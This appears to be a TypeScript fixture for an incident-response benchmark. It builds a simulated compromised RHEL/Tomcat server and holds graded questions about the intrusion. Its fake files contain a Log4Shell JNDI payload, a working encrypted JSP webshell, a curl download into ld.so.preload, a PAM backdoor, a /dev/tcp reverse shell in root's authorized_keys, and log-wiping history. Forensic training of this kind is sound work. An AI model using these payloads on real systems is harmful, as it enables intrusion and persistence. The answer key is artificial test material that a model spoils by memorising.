/** RHEL, Tomcat: a lookup of JNDI, an encrypted JSP shell, a PAM module and a preloaded library; the kernel's audit saw it. */
import { gzipSync } from 'node:zlib';
import {
  account,
  attacker,
  combined,
  entered,
  type Host,
  inTimeline,
  later,
  outbound,
  shell,
  stays,
  tampered,
  visitors,
} from './host.ts';

const THIEF = '203.0.113.140';
const hex = (text: string): string => Buffer.from(text).toString('hex').toUpperCase();
const audit = (iso: string, serial: number, type: string, rest: string): string =>
  `type=${type} msg=audit(${Date.parse(iso) / 1000}.214:${serial}): ${rest}`;
const run = (iso: string, serial: number, ...argv: string[]): string[] => [
  audit(
    iso,
    serial,
    'SYSCALL',
    `arch=c000003e syscall=59 success=yes exit=0 ppid=2211 pid=${serial} auid=4294967295 uid=91 gid=91 euid=91 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/bash" subj=system_u:system_r:tomcat_t:s0 key="exec"`,
  ),
  audit(
    iso,
    serial,
    'EXECVE',
    `argc=${argv.length} ${argv.map((one, i) => `a${i}=${/[\s"]/.test(one) ? hex(one) : `"${one}"`}`).join(' ')}`,
  ),
];

const PAYLOAD = '$%7Bjndi:$%7Blower:l%7Ddap://198.18.9.4:1389/Basic/TomcatEcho%7D';
const access =
  visitors('2026-11-19T08:00:00Z', ['/pay/', '/pay/start', '/pay/health', '/pay/return']) +
  combined('2026-11-19T08:31:12Z', THIEF, `GET /pay/start?locale=${PAYLOAD}`, 200, 2210) +
  combined('2026-11-19T08:33:40Z', THIEF, 'POST /pay/resources/fonts.jspx', 200, 96) +
  Array.from({ length: 9 }, (_, i) =>
    combined(later('2026-11-19T08:34:00Z', i * 55), THIEF, 'POST /pay/resources/fonts.jspx', 200, 512 + i * 16),
  ).join('');

export const rhelTomcat: Host = {
  name: 'RHEL with Tomcat',
  files: {
    'var/log/tomcat/localhost_access_log.2026-11-19.txt.gz': gzipSync(access),
    'var/log/tomcat/catalina.2026-11-19.log': [
      '19-Nov-2026 08:00:00.101 INFO [main] org.apache.catalina.startup.Catalina.start Server startup in [4312] milliseconds',
      '19-Nov-2026 08:31:12.480 WARNING [http-nio-8080-exec-7] com.shop.pay.StartServlet.doGet unknown locale '.concat(
        decodeURIComponent(PAYLOAD),
      ),
      '19-Nov-2026 08:31:12.733 SEVERE [http-nio-8080-exec-7] org.apache.logging.log4j.core.net.JndiManager.lookup Error looking up JNDI resource [ldap://198.18.9.4:1389/Basic/TomcatEcho]',
      '',
    ].join('\n'),
    'var/log/audit/audit.log': [
      ...run('2026-11-19T08:32:02Z', 4101, 'sh', '-c', 'id; uname -a'),
      ...run(
        '2026-11-19T08:36:10Z',
        4120,
        'sh',
        '-c',
        'curl -s http://198.18.9.4:8000/l.so -o /usr/lib64/libsystemd-shared.so.3',
      ),
      audit(
        '2026-11-19T08:41:30Z',
        4188,
        'ADD_USER',
        'pid=9120 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:unconfined_t:s0 msg=\'op=add-user acct="abrtd" exe="/usr/sbin/useradd" hostname=? addr=? terminal=? res=success\'',
      ),
      audit(
        '2026-11-19T09:02:11Z',
        4260,
        'USER_LOGIN',
        `pid=9402 uid=0 auid=1007 ses=12 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct="abrtd" exe="/usr/sbin/sshd" hostname=? addr=${THIEF} terminal=/dev/pts/2 res=success'`,
      ),
      '',
    ].join('\n'),
    'var/lib/tomcat/webapps/pay/resources/fonts.jspx':
      '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:directive.page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"/><jsp:declaration> class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}</jsp:declaration><jsp:scriptlet>String k="9f2c41d07ab3e865";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);</jsp:scriptlet></jsp:root>\n',
    'var/lib/tomcat/webapps/pay/index.jsp':
      '<%@ page contentType="text/html" %>\n<html><body><% String locale = request.getParameter("locale"); %>Welcome</body></html>\n',
    'etc/ld.so.preload': '/usr/lib64/libsystemd-shared.so.3\n',
    'etc/pam.d/password-auth':
      'auth        required      pam_env.so\nauth        sufficient    pam_systemd_auth.so\nauth        sufficient    pam_unix.so nullok\nauth        required      pam_deny.so\naccount     required      pam_unix.so\n',
    'rpm-Va.txt':
      'S.5....T.  c /etc/tomcat/server.xml\n..5....T.    /usr/lib64/security/pam_unix.so\nS.5....T.    /usr/bin/ss\n.......T.  c /etc/chrony.conf\n.M.......  g /var/log/lastlog\n',
    'etc/passwd':
      'root:x:0:0:root:/root:/bin/bash\ntomcat:x:91:91:Apache Tomcat:/usr/share/tomcat:/sbin/nologin\nabrt:x:173:173::/etc/abrt:/sbin/nologin\nabrtd:x:0:0::/etc/abrt:/bin/bash\n',
    'home/oper/.ssh/authorized_keys': 'from="10.2.0.0/16" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ1 oper@bastion\n',
    'root/.ssh/authorized_keys':
      'command="/bin/bash -c \'exec 5<>/dev/tcp/198.18.9.4/443; bash <&5 >&5 2>&1\'" ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 root@localhost\n',
    'root/.bash_history':
      '#1795077150\nchattr +i /etc/ld.so.preload\n#1795077190\nhistory -c\n#1795077201\nrm -f /var/log/secure*\n',
  },
  questions: [
    attacker(THIEF),
    entered(/JNDI/i, '2026-11-19T08:31:12Z'),
    outbound('198.18.9.4'),
    ...shell('fonts.jspx', { key: '9f2c41d07ab3e865', first: '2026-11-19T08:33:40Z' }),
    account('abrtd', /second root/),
    stays('etc/ld.so.preload', 'libsystemd-shared.so.3'),
    stays('etc/pam.d/password-auth', 'pam_systemd_auth'),
    stays('root/.ssh/authorized_keys', '/dev/tcp/198.18.9.4/443'),
    stays('root/.bash_history', 'rm -f /var/log/secure'),
    tampered('/usr/lib64/security/pam_unix.so'),
    tampered('/usr/bin/ss'),
    inTimeline(/abrtd/, '2026-11-19T08:41:30Z'),
    inTimeline(/curl|198\.18\.9\.4/, '2026-11-19T08:36:10Z'),
  ],
};
